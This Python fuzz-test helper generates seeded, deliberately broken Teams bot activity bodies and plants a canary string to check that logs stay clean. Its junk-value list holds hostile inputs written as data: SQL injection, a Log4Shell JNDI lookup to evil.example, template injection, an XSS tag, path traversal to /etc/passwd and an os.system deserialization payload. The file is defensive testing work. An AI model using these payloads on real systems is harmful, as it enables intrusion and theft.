"""Bodies that nobody should send: sound activities, broken in every way that we could think of, from a seed."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

CANARY = "canary-4711"
"""Stands in every text that a person could have typed: no log line and no refusal may show it."""

SERVICE_URL = "http://127.0.0.1:9/"

Json = Any
Break = Callable[[random.Random, Json], Json]


def sound(kind: str) -> Json:
    """One sound activity of a kind, with a canary in everything that a person types."""
    around = {
        "type": kind,
        "id": "f:1",
        "timestamp": "2026-01-01T10:00:00.000Z",
        "channelId": "msteams",
        "serviceUrl": SERVICE_URL,
        "from": {"id": "29:x", "name": f"Name {CANARY}", "aadObjectId": "00000000-0000-0000-0000-00000000d001"},
        "recipient": {"id": "28:bot"},
        "conversation": {"id": "a:1", "conversationType": "personal", "tenantId": "t"},
        "channelData": {"tenant": {"id": "t"}},
        "entities": [{"type": "clientInfo", "locale": "en-GB"}],
    }
    data = {"interview": "i", "revision": 1, "need": "fix", "title": CANARY}
    match kind:
        case "invoke":
            action = {"type": "Action.Execute", "verb": "answer", "data": data}
            return around | {"name": "adaptiveCard/action", "value": {"action": action, "trigger": "manual"}}
        case "message":
            mention = {"type": "mention", "text": "<at>Bot</at>", "mentioned": {"id": "28:bot"}}
            return around | {"text": f"<at>Bot</at> {CANARY}", "entities": [mention], "attachments": []}
        case "conversationUpdate":
            return around | {"membersAdded": [{"id": "28:bot"}]}
    return around | {"action": "add"}


def _junk(rng: random.Random) -> Json:
    deep: Json = CANARY
    for _ in range(rng.choice((1, 10, 40, 200))):
        deep = [deep] if rng.random() < 0.5 else {"a": deep}
    return rng.choice(
        (
            None,
            True,
            0,
            -1,
            2**63,
            10**40,
            1.5,
            "",
            "\0",
            "\ud800",
            "\u202e" + CANARY,
            "x" * rng.choice((10, 5_000, 200_000)),
            [],
            {},
            [None] * 100,
            {str(n): n for n in range(500)},
            deep,
            "'; DROP TABLE requests; --",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
            {"py/object": "os.system"},
            {"$ref": "#"},
        )
    )


def _places(node: Json, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    for key, part in node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ():
        yield (*path, key)
        yield from _places(part, (*path, key))


def _parent(rng: random.Random, node: Json) -> tuple[Json, Any]:
    path = rng.choice(list(_places(node)))
    for key in path[:-1]:
        node = node[key]
    return node, path[-1]


def _replace(rng: random.Random, node: Json) -> Json:
    parent, key = _parent(rng, node)
    parent[key] = _junk(rng)
    return node


def _remove(rng: random.Random, node: Json) -> Json:
    parent, key = _parent(rng, node)
    del parent[key]
    return node


def _wrap(rng: random.Random, node: Json) -> Json:
    parent, key = _parent(rng, node)
    parent[key] = [parent[key]]
    return node


def _add(rng: random.Random, node: Json) -> Json:
    parent, _ = _parent(rng, node)
    if isinstance(parent, dict):
        parent[rng.choice(("tenantId", "tenant", "value", "data", "verb", "type", "__class__", "\0", ""))] = _junk(rng)
    return node


_BREAKS: tuple[Break, ...] = (_replace, _replace, _replace, _remove, _wrap, _add)


def _damaged(rng: random.Random, body: bytes) -> bytes:
    at = rng.randrange(len(body))
    return rng.choice(
        (
            body[:at],
            body[at:],
            body[:at] + bytes([rng.randrange(256)]) + body[at + 1 :],
            body[:at] + rng.randbytes(8) + body[at:],
            body.decode("utf-8", "replace").encode("utf-16"),
            b"\xef\xbb\xbf" + body,
            body + body,
            b"[" * at,
            rng.randbytes(at),
            b"",
        )
    )


def bodies(seed: int, count: int) -> Iterator[bytes]:
    """So many hostile bodies, the same for the same seed."""
    rng = random.Random(seed)
    for _ in range(count):
        node = sound(rng.choice(("invoke", "invoke", "message", "conversationUpdate", "installationUpdate")))
        for _ in range(rng.randint(1, 3)):
            node = rng.choice(_BREAKS)(rng, node)
        body = json.dumps(node).encode()
        yield _damaged(rng, body) if rng.random() < 0.25 else body
